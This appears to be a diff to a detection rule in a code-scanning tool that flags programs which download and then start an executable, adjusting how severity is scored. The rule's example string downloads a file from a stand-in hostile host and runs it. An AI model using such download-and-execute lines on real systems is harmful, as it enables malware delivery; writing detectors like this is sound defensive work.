@@ -14,7 +14,7 @@ export const downloadStarted: Combination = {
     example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
     technique: 'T1105',
   },
-  judge: ({ behaviour, labels, reach, host, text, hashes, isChecked, isAnnounced }) => {
+  judge: ({ behaviour, labels, reach, host, text, hashes, isChecked, ...more }) => {
     if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
       return undefined;
     if (movesFiles(text ?? '')) return undefined;
@@ -30,7 +30,9 @@ export const downloadStarted: Combination = {
     const isSame = labels.has('remote-text') || labels.has('written');
     if (!isFixed || !(namesSomething(text) || isSame)) return 'LOW';
     // Who hides what he does says nothing; somebody has called this, and reads what it does.
-    return isAnnounced === true || labels.has('announced') ? 'HIGH' : 'CRITICAL';
+    const isAnnounced = more.isAnnounced === true || labels.has('announced');
+    // Who brings one for each system means it to be there, and not to be unnoticed on one.
+    return isAnnounced || more.isPortable === true ? 'HIGH' : 'CRITICAL';
   },
   message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
 };
